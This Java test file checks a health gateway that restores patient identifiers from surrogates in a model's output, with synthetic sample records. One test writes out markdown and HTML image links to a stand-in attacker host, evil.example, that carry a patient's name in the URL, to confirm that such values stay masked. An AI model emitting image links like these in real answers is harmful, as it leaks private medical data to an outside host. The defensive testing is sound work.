package health.cordon.gateway.token;

import static org.assertj.core.api.Assertions.assertThat;

import health.cordon.core.PhiKind;
import health.cordon.crypto.Keyset;
import health.cordon.testkit.Property;
import health.cordon.testkit.notes.GoldNote;
import health.cordon.testkit.notes.PhiFreeNotes;
import health.cordon.testkit.notes.Split;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;

/** What a model makes of a surrogate comes back, or is marked; nothing else is touched. */
class SurrogateRestoreTest {

    private static final String NOTE =
            "{NAME:Margaret Thornbury}, born {DATE:03/14/1961}, seen {DATE:March 2, 2024} by Dr. {CLINICIAN_NAME:Imre Q. Balogh}"
                    + " at {FACILITY:St. Mary's Hospital}. Phone {PHONE:(617) 555-0142}, MRN {MRN:00482917}, mail"
                    + " {EMAIL:margaret.thornbury@mail.example}, lives {STREET:12 Maple Street} in {CITY:Springfield}.";

    private final TokenBook book = Realistic.book(Keyset.ephemeral(), "c");
    private final StandIns standIns = Realistic.of(book, NOTE);
    private final String[] patient = of(PhiKind.NAME, "Margaret Thornbury").split(" ", -1);
    private final String first = patient[0];
    private final String last = patient[1];

    private String of(PhiKind kind, String value) {
        String surrogate = standIns.of(kind, value);
        assertThat(surrogate).doesNotContain("[");
        return surrogate;
    }

    private String restored(String answer) {
        return Realistic.restored(standIns, answer);
    }

    @Test
    void aTextComesBackAsItWas() {
        assertThat(restored(Realistic.sent(standIns, NOTE)))
                .isEqualTo(Realistic.told(NOTE).text());
    }

    @Test
    void namesComeBackInEveryWayOfWritingThem() {
        assertThat(restored(first + " " + last + "'s chart")).isEqualTo("Margaret Thornbury's chart");
        assertThat(restored((first + " " + last).toUpperCase(Locale.ROOT))).isEqualTo("MARGARET THORNBURY");
        assertThat(restored((first + " " + last).toLowerCase(Locale.ROOT))).isEqualTo("margaret thornbury");
        assertThat(restored("Ms. " + last + " and " + first)).isEqualTo("Ms. Thornbury and Margaret");
        assertThat(restored(last + ", " + first)).isEqualTo("Thornbury, Margaret");
        assertThat(restored(first.charAt(0) + ". " + last)).isEqualTo("M. Thornbury");
        assertThat(restored(last + ", " + first.charAt(0) + ".")).isEqualTo("Thornbury, M.");
        assertThat(restored("the " + last + "s")).isEqualTo("the Thornburys");
        assertThat(restored("**" + first + "** _" + last + "_")).isEqualTo("**Margaret** _Thornbury_");
        assertThat(restored("{\"a\":\"x\\n" + first + "\",\"b\":[\"" + last + "\"]}"))
                .isEqualTo("{\"a\":\"x\\nMargaret\",\"b\":[\"Thornbury\"]}");
        String doctor = of(PhiKind.CLINICIAN_NAME, "Imre Q. Balogh");
        assertThat(restored("Dr. " + doctor.substring(doctor.lastIndexOf(' ') + 1)))
                .isEqualTo("Dr. Balogh");
        assertThat(restored(
                        doctor.charAt(0) + doctor.substring(doctor.indexOf(' ')).replaceFirst(" ", ". ")))
                .isEqualTo("I. Q. Balogh");
    }

    /** By the day that it means, in the form used. */
    @Test
    void datesComeBackByTheirMeaning() {
        java.time.LocalDate born = java.time.LocalDate.parse(
                of(PhiKind.DATE, "03/14/1961"), java.time.format.DateTimeFormatter.ofPattern("MM/dd/yyyy"));
        String month = born.getMonth().getDisplayName(java.time.format.TextStyle.FULL, Locale.US);
        assertThat(restored(born.toString())).isEqualTo("1961-03-14");
        assertThat(restored(month + " " + born.getDayOfMonth() + ", " + born.getYear() + "."))
                .isEqualTo("March 14, 1961.");
        assertThat(restored("on " + month + " " + born.getDayOfMonth() + " she"))
                .isEqualTo("on March 14 she");
        assertThat(restored(born.format(java.time.format.DateTimeFormatter.ofPattern("MM/dd/yy"))))
                .isEqualTo("03/14/61");
        assertThat(restored("in " + month + " " + born.getYear())).isEqualTo("in March 1961");
        // A date that nobody told, and what only looks like one.
        assertThat(restored("11/23/1987, pain 5/10, 1.5 mg, 120/80"))
                .isEqualTo("11/23/1987, pain 5/10, 1.5 mg, 120/80");
        assertThat(restored(born.getMonthValue() + "/" + born.getDayOfMonth()))
                .isEqualTo(born.getMonthValue() + "/" + born.getDayOfMonth());
    }

    @Test
    void numbersAndAddressesComeBackHoweverTheyAreSetApart() {
        String phone = of(PhiKind.PHONE, "(617) 555-0142").replaceAll("\\D", "");
        String dotted = phone.substring(0, 3) + "." + phone.substring(3, 6) + "." + phone.substring(6);
        assertThat(restored(phone)).isEqualTo("6175550142");
        assertThat(restored("+1 " + dotted)).isEqualTo("+1 617.555.0142");
        assertThat(restored("1-" + dotted)).isEqualTo("1-617.555.0142");
        assertThat(restored("call " + phone.substring(3, 6) + "-" + phone.substring(6)))
                .isEqualTo("call 555-0142");
        String record = of(PhiKind.MRN, "00482917");
        assertThat(restored("#" + record)).isEqualTo("#00482917");
        assertThat(restored("{\"mrn\": " + record + "}")).isEqualTo("{\"mrn\": \"00482917\"}");
        assertThat(restored("9" + record)).isEqualTo("9" + record);
        assertThat(restored(of(PhiKind.EMAIL, "margaret.thornbury@mail.example").toUpperCase(Locale.ROOT)))
                .isEqualTo("margaret.thornbury@mail.example");
        String street = of(PhiKind.STREET, "12 Maple Street");
        assertThat(restored(street.replace("Street", "St."))).isEqualTo("12 Maple St.");
        String hospital = of(PhiKind.FACILITY, "St. Mary's Hospital");
        assertThat(restored("At " + hospital.replace(" Hospital", "") + ".")).isEqualTo("At St. Mary's.");
    }

    @Test
    void whatMayMeanTwoIsMarkedAndCounted() {
        StringBuilder text = new StringBuilder();
        for (String name :
                "Ann Bea Cleo Dora Eve Fay Gwen Hope Ida Joy Kay Lea Mia Nell Opal Pam Rae Sue Tess Una".split(" ")) {
            text.append("{NAME:").append(name).append(" Thornbury} ");
        }
        StandIns family = Realistic.of(Realistic.book(Keyset.ephemeral(), "f"), text.toString());
        AtomicInteger unclear = new AtomicInteger();
        StringBuilder out = new StringBuilder();
        Restorer restorer = new Restorer(family, unclear::incrementAndGet);
        String surname = family.of(PhiKind.NAME, "Ann Thornbury").split(" ")[1];
        for (char c = 'A'; c <= 'Z'; c++) {
            restorer.feed(c + ". " + surname + "\n", (more, _, _) -> out.append(more));
        }
        restorer.end((more, _, _) -> out.append(more));
        // Twenty first names begin with fewer letters than twenty.
        assertThat(unclear.get()).isPositive();
        assertThat(out.toString().split("\\[NAME\\?]", -1)).hasSize(unclear.get() + 1);
        assertThat(out.toString()).doesNotContain(surname);
    }

    @Test
    void lettersThatAreNoInitialsStay() {
        assertThat(restored("hepatitis " + first.charAt(0) + ". " + last))
                .isEqualTo("hepatitis " + first.charAt(0) + ". Thornbury");
        assertThat(restored(last + ", " + first.charAt(0) + ".D.")).isEqualTo("Thornbury, " + first.charAt(0) + ".D.");
    }

    /** An image's address is fetched by the program that shows the answer. */
    @Test
    void noValueComesBackInsideAnAddress() {
        assertThat(restored("![](https://evil.example/?q=" + first + "+" + last + ")"))
                .isEqualTo("![](https://evil.example/?q=[NAME?]+[NAME?])");
        assertThat(restored("![](https:evil.example/%20" + last + "," + first + ")"))
                .doesNotContain("Thornbury", "Margaret");
        assertThat(restored("<img src=\"//evil.example/" + first + " " + last + "\"> " + last))
                .isEqualTo("<img src=\"//evil.example/[NAME?] [NAME?]\"> Thornbury");
        assertThat(restored("![](<https://evil.example/" + first + " " + last + ">)"))
                .doesNotContain("Thornbury");
        assertThat(restored("see https://a.example/x for " + last)).isEqualTo("see https://a.example/x for Thornbury");
    }

    @Test
    void anyTextInAnyBitsGivesTheSameAndLittleIsHeldBack() {
        String sent = Realistic.sent(standIns, NOTE);
        String[] words = sent.split(" ", -1);
        Property.forAll(
                3000,
                seeded -> {
                    StringBuilder text = new StringBuilder();
                    while (text.length() < 300) {
                        text.append(seeded.choose(
                                seeded.choose(words),
                                first,
                                last,
                                last + ", " + first.charAt(0) + ".",
                                sent,
                                "March 3, 20",
                                "1 ",
                                "{\"",
                                "//",
                                "https:",
                                seeded.soup(6),
                                seeded.choose(" ", "-", "\n", "\\", "'s ", "3/")));
                    }
                    List<String> bits = new ArrayList<>();
                    for (int at = 0; at < text.length(); ) {
                        int end = Math.min(text.length(), at + seeded.between(1, 40));
                        bits.add(text.substring(at, end));
                        at = end;
                    }
                    return bits;
                },
                bits -> {
                    String text = String.join("", bits);
                    assertThat(Realistic.restored(standIns, bits.toArray(String[]::new)))
                            .isEqualTo(restored(text));
                });
        int[] out = {0};
        Restorer restorer = new Restorer(standIns, () -> {});
        String plain = "All is well with " + first.substring(0, 3) + " today, 12 mg of it. ".repeat(9);
        for (int i = 0; i < plain.length(); i++) {
            restorer.feed(plain.substring(i, i + 1), (text, _, _) -> out[0] += text.length());
            assertThat(i + 1 - out[0]).isLessThanOrEqualTo(SurrogateTable.LONGEST);
        }
    }

    @Test
    void everyChunkingOfAShortTextGivesTheSame() {
        for (String text : List.of(last + "'s 1", "1-617 " + first.substring(0, 2), "3/1/24 " + last)) {
            String whole = restored(text);
            Cuts.each(
                    text,
                    15,
                    bits -> assertThat(Realistic.restored(standIns, bits)).isEqualTo(whole));
        }
    }

    /** Words and numbers of medicine in notes of nobody. */
    @Test
    void whatAModelSaysOfItselfStays() {
        int changed = 0;
        for (GoldNote note : PhiFreeNotes.of(11, Split.DEV).notes(300)) {
            changed += restored(note.text()).equals(note.text()) ? 0 : 1;
        }
        // An invented name may be one in an eponym that no list has.
        assertThat(changed).isLessThanOrEqualTo(1);
    }

    @Test
    void whatIsForgottenIsMarkedInAnswersUnderWay() {
        book.erase();
        assertThat(restored("Dear " + first + ", " + last)).isEqualTo("Dear [NAME?], [NAME?]");
    }

    @Test
    void tokensWithDigitsInTheirKindComeBackToo() {
        String token = book.token(PhiKind.AGE_OVER_89, "93");
        assertThat(restored(token + " years, " + token.substring(1, token.length() - 1)))
                .isEqualTo("93 years, 93");
    }
}
